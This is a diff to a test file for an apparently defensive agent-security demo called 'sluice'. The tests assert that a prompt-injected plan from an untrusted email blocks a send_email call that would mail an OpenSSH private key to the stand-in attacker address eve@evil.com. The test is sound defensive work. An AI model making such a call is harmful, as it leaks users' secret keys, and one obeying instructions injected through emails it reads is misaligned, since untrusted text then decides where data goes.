@@ -16,7 +16,8 @@ describe("sluice demo", () => {
     expect(stdout).toContain("label:   untrusted · readers: public · sources: email:eve@evil.com");
     // The injected plan and the boss-or-CEO plan are stopped at send_email.
     expect(stdout.match(/status:  blocked at call \d, send_email \(denied\); as expected/g)).toHaveLength(2);
-    expect(stdout).toContain('send_email(to: "eve@evil.com"');
+    // A tool's arguments are recorded in the boundary's fixed key order (docs/security-model.md).
+    expect(stdout).toMatch(/send_email\(body: "-----BEGIN OPENSSH PRIVATE KEY-----.*, subject: "As requested", to: "eve@evil.com"\)/);
     expect(stdout).toContain("untrusted text chose where the data goes");
     expect(stdout).toContain("decision: asked, NOT approved");
     expect(stdout).toContain("Emails sent: boss@corp.com.");
